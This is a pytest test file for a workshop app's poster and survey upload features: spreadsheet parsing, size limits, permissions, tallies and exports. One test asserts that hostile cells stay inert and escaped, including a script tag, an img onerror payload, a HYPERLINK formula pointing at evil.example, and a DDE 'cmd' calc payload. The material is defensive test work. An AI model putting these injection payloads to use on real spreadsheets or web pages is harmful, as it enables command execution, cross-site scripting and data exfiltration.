"""Posters and survey results from files: the parser (tests/data holds real-world-shaped
and hostile files), scales beyond three colours, the survey beside the dots, and the
facilitator's upload through the page."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pytest
import yaml
from flask import Flask
from openpyxl import Workbook
from sqlalchemy import select

from tests.conftest import Member, Workshop, phase_index, post, unchanged
from tests.dom import parse
from wsapp.cli import cli
from wsapp.content import DEFAULT_CONTENT_DIR, ContentError, Library, load_library
from wsapp.export.formats import posters_rows, to_csv
from wsapp.extensions import db
from wsapp.limits import TABLE_CELL_MAX, TABLE_COLUMNS_MAX, TABLE_ROWS_MAX, UPLOAD_MAX_BYTES
from wsapp.models import PosterItem, PosterKit, Room, SurveyItem
from wsapp.posters.domain import room_scale, summary, tally
from wsapp.posters.survey import MeanRange, read_survey
from wsapp.posters.upload import read_posters, template_csv, template_xlsx
from wsapp.tabular import TableError, read_table

DATA = Path(__file__).resolve().parent / "data"


@pytest.fixture(scope="module")
def library() -> Library:
    return load_library(DEFAULT_CONTENT_DIR)


def data(name: str) -> bytes:
    return (DATA / name).read_bytes()


def problems(error: pytest.ExceptionInfo[TableError]) -> list[tuple[int | None, str | None]]:
    return [(p.row, p.column) for p in error.value.problems]


# --- The parser ------------------------------------------------------------------------------


def test_an_ic_map_file_in_utf8_with_a_byte_order_mark_gives_posters_with_descriptors(
    library: Library,
) -> None:
    posters = read_posters(read_table(data("ic-map-posters.csv")), library.all_scales["ic-map"])
    assert [p.title for p in posters] == ["Learning Communities", "Leadership"]
    assert [i.code for p in posters for i in p.items] == [
        "LC-1", "LC-2", "LC-3", "LD-1", "LD-2", "LD-3",
    ]  # fmt: skip
    first = posters[0].items[0]
    assert first.descriptors[0].startswith("Meets several times a week; every member shares")
    assert (
        "students\N{RIGHT SINGLE QUOTATION MARK} learning" in first.descriptors[0]
    )  # the curly apostrophe survives
    assert len(first.descriptors) == 4
    assert posters[0].statement.startswith("Professional learning occurs within")


def test_the_same_posters_from_xlsx_read_values_and_never_run_a_formula(library: Library) -> None:
    table = read_table(data("ic-map-posters.xlsx"), "ic-map-posters.xlsx")
    posters = read_posters(table, library.all_scales["ic-map"])
    # Codes a spreadsheet stored as numbers read as people see them.
    assert [i.code for i in posters[0].items] == ["1.1", "1.2", "2"]
    # The formula where LD-1's statement goes has no value: never evaluated, it is blank.
    assert posters[1].statement == ""
    assert all("HYPERLINK" not in i.text for p in posters for i in p.items)


def test_windows_1252_semicolons_and_other_headers_are_read(library: Library) -> None:
    posters = read_posters(
        read_table(data("readiness-posters-windows-1252.csv")),
        library.all_scales["readiness-planning"],
    )
    assert posters[0].title == "Évaluation des données"
    assert posters[0].items[1].text == (
        "\N{LEFT DOUBLE QUOTATION MARK}Data walks\N{RIGHT DOUBLE QUOTATION MARK} happen at "
        "every school\N{RIGHT SINGLE QUOTATION MARK}s staff meeting."
    )
    assert [i.code for p in posters for i in p.items] == ["D-1", "D-2", "R-1"]


def test_excel_unicode_text_utf16_with_tabs_is_read(library: Library) -> None:
    posters = read_posters(
        read_table(data("posters-unicode-text.txt")), library.all_scales["readiness-planning"]
    )
    assert posters[0].items[1].text == "PL addresses bias in grading \N{EN DASH} 評価."


def test_hostile_cells_are_kept_as_plain_text_without_control_characters(
    library: Library,
) -> None:
    posters = read_posters(
        read_table(data("hostile-posters.csv")), library.all_scales["readiness-planning"]
    )
    items = posters[0].items
    assert posters[0].title == "<script>alert('poster')</script>"
    assert items[0].text.startswith('=HYPERLINK("http://evil.example/?"')
    assert items[1].text == "+cmd|' /C calc'!A0" and items[1].descriptors[0] == "-2+3"
    assert items[2].descriptors[0] == "<img src=x onerror=alert(1)>"
    assert "\x07" not in items[3].text and "\x1b" not in items[3].text
    # What the exports write from them is neutralised for spreadsheets.
    assert b"'=HYPERLINK" in to_csv([[items[0].text]])


def test_every_problem_is_named_by_row_and_column(library: Library) -> None:
    table = read_table(data("broken-posters.csv"))
    with pytest.raises(TableError) as error:
        read_posters(table, library.all_scales["readiness-planning"])
    assert problems(error) == [
        (3, "B (item)"),  # no code
        (4, "B (item)"),  # a code too long, with spaces
        (5, "B (item)"),  # LD-1 again
        (6, "A (poster)"),  # no poster
        (7, "C (text)"),  # no text
        (8, "D"),  # a value past the last header
    ]
    assert "repeats the item code LD-1 of row 2" in str(error.value)


def test_unknown_columns_are_refused_by_name(library: Library) -> None:
    with pytest.raises(TableError) as error:
        read_posters(read_table(data("unknown-columns.csv")), library.all_scales["ic-map"])
    assert problems(error) == [(1, "D (owner)"), (1, "E (level 9)")]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("old-excel.xls", "old Excel file"),
        ("damaged.xlsx", "damaged"),
    ],
)
def test_files_that_are_not_spreadsheets_are_refused(name: str, words: str) -> None:
    with pytest.raises(TableError, match=words):
        read_table(data(name), name)


def test_limits_on_size_rows_columns_and_text() -> None:
    with pytest.raises(TableError, match="too large"):
        read_table(b"poster,item,text\n" + b"x" * UPLOAD_MAX_BYTES)
    rows = "poster,item,text\n" + "".join(f"P,I{n},t\n" for n in range(TABLE_ROWS_MAX + 1))
    with pytest.raises(TableError, match="more than"):
        read_table(rows.encode())
    wide = ",".join(f"c{n}" for n in range(TABLE_COLUMNS_MAX + 1))
    with pytest.raises(TableError, match="columns") as error:
        read_table(wide.encode())
    assert error.value.problems[0].row == 1
    table = read_table(f"poster,item,text\nP,I1,{'y' * (TABLE_CELL_MAX + 1)}\n".encode())
    assert [(p.row, p.column) for p in table.problems] == [(2, "C")]
    with pytest.raises(TableError, match="neither UTF-8 nor Windows-1252"):
        read_table(b"poster,item,text\nP,I1,\x81\x8d\n")
    with pytest.raises(TableError, match="not a text file"):
        read_table(b"poster,item\x00,text\n")
    with pytest.raises(TableError, match="empty"):
        read_table(b"\n\n  \n")


def test_an_xlsx_that_unpacks_far_past_its_size_is_refused() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for _ in range(2500):
        sheet.append(["a" * 1000] * 10)
    out = io.BytesIO()
    book.save(out)
    assert len(out.getvalue()) < UPLOAD_MAX_BYTES
    with pytest.raises(TableError, match="far more"):
        read_table(out.getvalue(), "bomb.xlsx")


def test_the_templates_read_back_as_valid_poster_files(library: Library) -> None:
    for scale in library.all_scales.values():
        for body, name in (
            (template_csv(scale).encode(), "t.csv"),
            (template_xlsx(scale), "t.xlsx"),
        ):
            posters = read_posters(read_table(body, name), scale)
            assert len(posters[0].items[0].descriptors) == len(scale.levels)


# --- Survey files ----------------------------------------------------------------------------


def test_an_sai2_like_survey_is_put_in_the_scales_order_and_placed_from_0_to_1(
    library: Library,
) -> None:
    rows = read_survey(read_table(data("sai2-survey.csv")), library.all_scales["ic-map"])
    first = rows[0]
    assert first.code == "LC-1"
    # Never ... Always in the file, lowest first: kept best first.
    assert [s.label for s in first.shares] == [
        "Always",
        "Frequently",
        "Sometimes",
        "Seldom",
        "Never",
    ]
    assert [s.percent for s in first.shares] == [25, 40, 20, 10, 5]
    assert first.score == pytest.approx((25 + 40 * 0.75 + 20 * 0.5 + 10 * 0.25) / 100)
    assert rows[5].code == "LD-3" and rows[5].shares[0].percent == 20  # numbers without %


def test_responses_named_like_the_scales_levels_follow_the_scale(library: Library) -> None:
    body = b"item,never,seldom,sometimes,frequently,always\nQ1,0,0,0,0,100\n"
    rows = read_survey(read_table(body), library.all_scales["frequency"], order="best-first")
    assert rows[0].score == 1.0 and rows[0].shares[0].label == "Always"


def test_a_survey_of_means_with_decimal_commas(library: Library) -> None:
    rows = read_survey(
        read_table(data("survey-means-semicolon.csv")),
        library.all_scales["ic-map"],
        means=MeanRange(1, 5),
    )
    assert [(r.code, r.mean, r.score) for r in rows] == [
        ("LC-1", 3.8, 0.7), ("LC-2", 4.1, 0.775), ("LD-2", 1.6, 0.15),
    ]  # fmt: skip


def test_a_broken_survey_names_each_problem(library: Library) -> None:
    with pytest.raises(TableError) as error:
        read_survey(read_table(data("broken-survey.csv")), library.all_scales["ic-map"])
    assert problems(error) == [
        (2, None),  # adds up to 50
        (3, "B (never)"),  # "ten"
        (4, "A (item)"),  # LC-1 again
        (5, "A (item)"),  # no code
        (6, "B (never)"),  # 120
        (6, "C (seldom)"),  # -20
    ]


# --- Scales ------------------------------------------------------------------------------------


def test_scores_come_from_the_level_order_for_any_scale(library: Library) -> None:
    scales = library.all_scales
    assert scales["readiness-planning"].scores == {"green": 1, "yellow": 0, "red": -1}
    assert scales["ic-map"].scores == pytest.approx(
        {"level-1": 1, "level-2": 1 / 3, "level-3": -1 / 3, "level-4": -1}
    )
    assert list(scales["frequency"].scores.values()) == [1, 0.5, 0, -0.5, -1]
    for scale in scales.values():  # never colour alone: each level its own shape and label
        assert len({level.shape for level in scale.levels}) == len(scale.levels)
        assert len({level.label for level in scale.levels}) == len(scale.levels)


def test_the_check_content_command_checks_a_poster_file(app: Flask) -> None:
    runner = app.test_cli_runner()
    good = runner.invoke(
        cli, ["check-content", str(DATA / "ic-map-posters.csv"), "--scale", "ic-map"]
    )
    assert good.exit_code == 0, good.output
    assert "2 posters, 6 items, on Innovation Configuration map: four levels" in good.output
    bad = runner.invoke(cli, ["check-content", str(DATA / "broken-posters.csv")])
    assert bad.exit_code == 1
    assert "broken-posters.csv: Row 3, column B (item): needs the item's code" in bad.output


# --- Through the page ------------------------------------------------------------------------


def upload(member: Member, path: str, name: str, body: bytes, **fields: str) -> tuple[int, str]:
    response = post(
        member.client,
        f"/r/{member.code}/lead/{path}",
        {**fields, "file": (io.BytesIO(body), name)},
        content_type="multipart/form-data",
    )
    return response.status_code, response.get_data(as_text=True)


def put_up_ic_map(lead: Member) -> None:
    status, html = upload(
        lead, "posters/file", "ic.csv", data("ic-map-posters.csv"), scale_id="ic-map"
    )
    assert status == 200 and "Put these posters up" in html, html
    status, html = upload(
        lead,
        "posters/file",
        "ic.csv",
        data("ic-map-posters.csv"),
        scale_id="ic-map",
        apply="yes",
        keep_as="Learning Forward IC map",
    )
    assert status == 200 and "The wall now has 2 posters" in html, html


def item_ids(app: Flask, code: str) -> dict[str, int]:
    with app.app_context():
        room = db.session.scalar(select(Room).where(Room.code == code))
        return {it.ref: it.item.id for p in tally(room) for it in p.items}


def test_a_preview_changes_nothing_and_putting_it_up_replaces_the_wall(
    workshop: Workshop, app: Flask
) -> None:
    lead = workshop.open_room()
    with unchanged(app):
        status, html = upload(
            lead, "posters/file", "ic.csv", data("ic-map-posters.csv"), scale_id="ic-map"
        )
    assert status == 200
    page = parse(html)
    assert "Level 1: ideal: Meets several times a week" in page.words
    put_up_ic_map(lead)
    with app.app_context():
        room = db.session.scalar(select(Room).where(Room.code == lead.code))
        assert room_scale(room).id == "ic-map"
        refs = [it.ref for p in tally(room) for it in p.items]
        assert refs == ["LC-1", "LC-2", "LC-3", "LD-1", "LD-2", "LD-3"]
        kept = db.session.scalars(select(PosterKit)).one()
        assert kept.title == "Learning Forward IC map" and kept.scale_id == "ic-map"


def test_a_broken_file_shows_its_problems_and_changes_nothing(
    workshop: Workshop, app: Flask
) -> None:
    lead = workshop.open_room()
    with unchanged(app):
        status, html = upload(
            lead, "posters/file", "b.csv", data("broken-posters.csv"), apply="yes"
        )
    assert status == 422
    cells = [[td.words for td in tr.find_all("td")] for tr in parse(html).find_all("tr")[1:]]
    assert cells[0] == ["3", "B (item)", "needs the item's code (like LD-1 or 1.2)."]
    assert "Nothing was changed" in html


def test_hostile_text_is_escaped_where_it_is_shown(workshop: Workshop, app: Flask) -> None:
    lead = workshop.open_room()
    status, html = upload(lead, "posters/file", "h.csv", data("hostile-posters.csv"))
    assert status == 200
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert "<img src=x" not in html


def test_only_the_facilitator_may_upload(workshop: Workshop, app: Flask) -> None:
    lead = workshop.open_room()
    ana = workshop.join(lead.code, "Ana")
    stranger = Member(app.test_client(), lead.code, "participant")
    for who in (ana, stranger):
        with unchanged(app):
            for path in ("posters/file", "survey/file"):
                status, _ = upload(who, path, "ic.csv", data("ic-map-posters.csv"), apply="yes")
                assert status == 403


def test_the_wall_is_fixed_once_dotting_starts(workshop: Workshop, app: Flask) -> None:
    lead = workshop.connect(workshop.open_room())
    ana = workshop.connect(workshop.join(lead.code, "Ana"))
    assert lead.act("phase.go", index=phase_index(app, "posters"))["ok"]
    first = next(iter(item_ids(app, lead.code).values()))
    assert ana.act("dot.place", item_id=first, colour="green")["ok"]
    with unchanged(app):
        status, html = upload(
            lead,
            "posters/file",
            "ic.csv",
            data("ic-map-posters.csv"),
            scale_id="ic-map",
            apply="yes",
        )
        assert status == 409 and "Dots have been placed" in html
        refused = lead.act("posters.scale", scale_id="frequency")
        assert not refused["ok"] and "Dots have been placed" in refused["error"]


def test_an_ic_map_room_tallies_ranks_and_exports_by_its_four_levels(
    workshop: Workshop, app: Flask
) -> None:
    lead = workshop.connect(workshop.open_room())
    put_up_ic_map(lead)
    people = [workshop.connect(workshop.join(lead.code, name)) for name in ("Ana", "Ben", "Cy")]
    assert lead.act("phase.go", index=phase_index(app, "posters"))["ok"]
    items = item_ids(app, lead.code)
    refused = people[0].act("dot.place", item_id=items["LC-1"], colour="green")
    assert not refused["ok"]
    assert (
        refused["error"] == "colour: Input should be 'level-1', 'level-2', 'level-3' or 'level-4'"
    )
    for person in people:  # LC-1: all at level 1; LD-2: split between the ends
        assert person.act("dot.place", item_id=items["LC-1"], colour="level-1")["ok"]
    assert people[0].act("dot.place", item_id=items["LD-2"], colour="level-1")["ok"]
    assert people[1].act("dot.place", item_id=items["LD-2"], colour="level-4")["ok"]
    assert people[2].act("dot.place", item_id=items["LC-3"], colour="level-4")["ok"]
    assert lead.act("paper.set", item_id=items["LC-3"], **{"level-3": 2})["ok"]
    assert not lead.act("paper.set", item_id=items["LC-3"], green=2)["ok"]
    with app.app_context():
        room = db.session.scalar(select(Room).where(Room.code == lead.code))
        ranked = summary(room)
        assert [e.ref for e in ranked.strengths] == ["LC-1"]
        assert [e.ref for e in ranked.disagreements] == ["LD-2"]
        assert [e.ref for e in ranked.gaps] == ["LC-3"]  # 1 at level 4, 2 at level 3 on paper
        rows = posters_rows(tally(room), room_scale(room), named=False)
    assert rows[0][3:7] == ["Level 1", "Level 2", "Level 3", "Level 4"]
    assert rows[1][1:8] == ["LC-1", rows[1][2], 3, 0, 0, 0, 3]
    record = json.loads(lead.client.get(f"/r/{lead.code}/export/room.json").get_data())
    assert record["room"]["settings"]["scale_id"] == "ic-map"
    first = record["posters"][0]["items"][0]
    assert first["code"] == "LC-1" and len(first["descriptors"]) == 4
    assert record["posters"][0]["items"][2]["paper"] == {
        "level-1": 0,
        "level-2": 0,
        "level-3": 2,
        "level-4": 0,
    }
    # The JSON export imports as a copy with the same scale, descriptors and dots.
    response = post(
        lead.client,
        "/rooms/import",
        {"record": (io.BytesIO(json.dumps(record).encode()), "room.json")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 204, response.get_data(as_text=True)
    with app.app_context():
        copy = db.session.scalars(select(Room).order_by(Room.id.desc())).first()
        assert copy is not None and room_scale(copy).id == "ic-map"
        assert [e.ref for e in summary(copy).disagreements] == ["LD-2"]


def test_survey_results_show_beside_the_dots_and_the_summary_flags_differences(
    workshop: Workshop, app: Flask
) -> None:
    lead = workshop.connect(workshop.open_room())
    put_up_ic_map(lead)
    people = [workshop.connect(workshop.join(lead.code, name)) for name in ("Ana", "Ben")]
    status, html = upload(
        lead, "survey/file", "sai2.csv", data("sai2-survey.csv"), title="SAI2 2026"
    )
    assert status == 200, html
    assert "Survey results kept for 7 items. 1 of them name no item on the posters (XX-99)" in (
        parse(html).words
    )
    assert lead.act("phase.go", index=phase_index(app, "posters"))["ok"]
    items = item_ids(app, lead.code)
    for person in people:  # the team: LC-3 is ideal; the survey says it seldom happens
        assert person.act("dot.place", item_id=items["LC-3"], colour="level-1")["ok"]
        assert person.act("dot.place", item_id=items["LC-1"], colour="level-2")["ok"]
    with app.app_context():
        room = db.session.scalar(select(Room).where(Room.code == lead.code))
        ranked = summary(room)
        assert [e.ref for e in ranked.survey_differs or []] == ["LC-3"]
        assert ranked.survey_differs and ranked.survey_differs[0].survey_gap == pytest.approx(
            1 - 0.3125
        )
        assert db.session.scalar(select(SurveyItem.code).where(SurveyItem.code == "XX-99"))
    page = parse(lead.client.get(f"/r/{lead.code}/lead").get_data(as_text=True))
    tally_node = page.by_id(f"tally-{items['LC-3']}")
    assert tally_node is not None
    survey = tally_node.by_class("survey-beside")[0]
    shares = survey.by_class("survey-shares")[0].words
    assert shares.startswith("▦ SAI2 2026: Always 5% , Frequently 10% , Sometimes 20%")
    assert "the team rates LC-3 higher than the survey" in survey.words
    csv_text = lead.client.get(f"/r/{lead.code}/export/posters.csv").get_data(as_text=True)
    assert "Team and survey differ most" in csv_text and "+0.69" in csv_text
    # The survey is kept with the room: its JSON export brings it into a copy.
    record = lead.client.get(f"/r/{lead.code}/export/room.json").get_data()
    response = post(
        lead.client,
        "/rooms/import",
        {"record": (io.BytesIO(record), "room.json")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 204
    with app.app_context():
        copy = db.session.scalars(select(Room).order_by(Room.id.desc())).first()
        assert copy is not None and copy.survey_title == "SAI2 2026"
        assert [e.ref for e in summary(copy).survey_differs or []] == ["LC-3"]
    # Results come with their title (a room without one reads none): a record whose
    # survey lost its title is refused whole.
    untitled = json.loads(record)
    untitled["room"]["settings"]["survey_title"] = None
    with unchanged(app):
        response = post(
            lead.client,
            "/rooms/import",
            {"record": (io.BytesIO(json.dumps(untitled).encode()), "room.json")},
            content_type="multipart/form-data",
        )
    assert response.status_code == 422
    assert "its survey results have no title" in response.get_data(as_text=True)
    # A wrong survey changes nothing.
    with unchanged(app):
        status, html = upload(lead, "survey/file", "bad.csv", data("broken-survey.csv"))
    assert status == 422 and "adds up to 50" not in html and "add up to 50" in html
    assert lead.act("survey.clear")["ok"]
    with app.app_context():
        room = db.session.scalar(select(Room).where(Room.code == lead.code))
        assert room is not None and room.survey_title is None
        assert (
            db.session.scalars(select(SurveyItem).where(SurveyItem.room_id == room.id)).all() == []
        )


def test_a_kept_poster_set_opens_on_a_later_rooms_wall(workshop: Workshop, app: Flask) -> None:
    first = workshop.open_room()
    put_up_ic_map(first)
    with app.app_context():
        kit_id = db.session.scalars(select(PosterKit.id)).one()
    # The same browser opens another room: the set it kept is offered there, and used.
    response = post(first.client, "/rooms", {"kit": "readiness-planning"})
    code = response.headers["Location"].split("/r/")[1].split("/")[0]
    later = workshop.connect(Member(first.client, code, "facilitator"))
    page = parse(first.client.get(f"/r/{code}/lead").get_data(as_text=True))
    assert page.find(lambda n: n.tag == "button" and n.words == "Use Learning Forward IC map")
    assert later.act("posters.use_kit", kit_id=kit_id)["ok"]
    assert list(item_ids(app, code))[:2] == ["LC-1", "LC-2"]
    other = workshop.connect(workshop.open_room())
    refused = other.act("posters.use_kit", kit_id=kit_id)
    assert not refused["ok"] and "not one you kept" in refused["error"]


def test_poster_descriptors_show_with_each_item(workshop: Workshop, app: Flask) -> None:
    lead = workshop.open_room()
    put_up_ic_map(lead)
    ana = workshop.join(lead.code, "Ana")
    lead_socket = workshop.connect(lead)
    assert lead_socket.act("phase.go", index=phase_index(app, "posters"))["ok"]
    page = parse(ana.client.get(f"/r/{lead.code}").get_data(as_text=True))
    details = page.by_class("descriptors")
    assert len(details) == 6
    assert "Level 4: entry Does not meet as a team." in details[0].words
    buttons = [b.words for b in page.by_class("dot-button")][:4]
    assert [b.split()[-1] for b in buttons] == ["ideal", "2", "3", "entry"]


def test_template_downloads(app: Flask) -> None:
    test = app.test_client()
    csv_file = test.get("/posters/template.csv?scale=ic-map")
    assert csv_file.status_code == 200
    assert (
        csv_file.get_data(as_text=True)
        .lstrip("\ufeff")
        .startswith("poster,item,text,statement,level 1,level 2,level 3,level 4")
    )
    xlsx = test.get("/posters/template.xlsx?scale=frequency")
    assert xlsx.status_code == 200 and xlsx.get_data()[:2] == b"PK"
    assert test.get("/posters/template.exe").status_code == 404


def test_items_keep_their_codes_in_the_database(workshop: Workshop, app: Flask) -> None:
    lead = workshop.open_room()
    put_up_ic_map(lead)
    with app.app_context():
        codes = list(db.session.scalars(select(PosterItem.code).order_by(PosterItem.id)))
    assert codes[-6:] == ["LC-1", "LC-2", "LC-3", "LD-1", "LD-2", "LD-3"]


def test_a_kit_can_name_its_posters_scale_and_a_broken_scale_is_named(
    tmp_path: Path,
) -> None:
    content = tmp_path / "content"
    shutil.copytree(DEFAULT_CONTENT_DIR, content)
    kit_path = content / "kits" / "readiness-planning.yaml"
    kit = yaml.safe_load(kit_path.read_text(encoding="utf-8"))
    posters = next(phase for phase in kit["phases"] if phase["kind"] == "posters")
    posters["scale"] = "ic-map"
    kit_path.write_text(yaml.safe_dump(kit, allow_unicode=True, sort_keys=False), encoding="utf-8")
    loaded = load_library(content).kits["readiness-planning"]
    assert next(p for p in loaded.phases if p.kind == "posters").scale == "ic-map"
    posters["scale"] = "no-such-scale"
    kit_path.write_text(yaml.safe_dump(kit, allow_unicode=True, sort_keys=False), encoding="utf-8")
    with pytest.raises(ContentError) as error:
        load_library(content)
    assert error.value.field.endswith(".scale") and "should name a scale" in error.value.expected
    scale_path = content / "scales" / "frequency.yaml"
    scale = yaml.safe_load(scale_path.read_text(encoding="utf-8"))
    scale["levels"][1]["shape"] = scale["levels"][0]["shape"]
    scale_path.write_text(yaml.safe_dump(scale, allow_unicode=True), encoding="utf-8")
    posters["scale"] = "ic-map"
    kit_path.write_text(yaml.safe_dump(kit, allow_unicode=True, sort_keys=False), encoding="utf-8")
    with pytest.raises(ContentError) as error:
        load_library(content)
    assert (error.value.file, error.value.field) == ("scales/frequency.yaml", "levels")
    assert "each level needs its own shape" in error.value.expected


def test_posters_sent_straight_to_the_action_are_checked_whole(
    workshop: Workshop, app: Flask
) -> None:
    lead = workshop.connect(workshop.open_room())
    item = {"code": "A-1", "text": "Fine", "descriptors": ["a", "b", "c", "d"]}
    bad = [
        ({"scale_id": "ic-map", "posters": [{"title": "P", "items": [item, item]}]}, "used twice"),
        (
            {"scale_id": "readiness-planning", "posters": [{"title": "P", "items": [item]}]},
            "4 levels",
        ),
        ({"scale_id": "nope", "posters": [{"title": "P", "items": [item]}]}, "no scale"),
        ({"scale_id": "ic-map", "posters": []}, "posters"),
        (
            {
                "scale_id": "ic-map",
                "posters": [{"title": "P", "items": [{**item, "code": "=1+1"}]}],
            },
            "code",
        ),
    ]
    for args, words in bad:
        with unchanged(app):
            refused = lead.act("posters.replace", **args)
        assert not refused["ok"] and words in refused["error"], refused
    assert lead.act(
        "posters.replace", scale_id="ic-map", posters=[{"title": "P", "items": [item]}]
    )["ok"]
    assert list(item_ids(app, lead.code)) == ["A-1"]
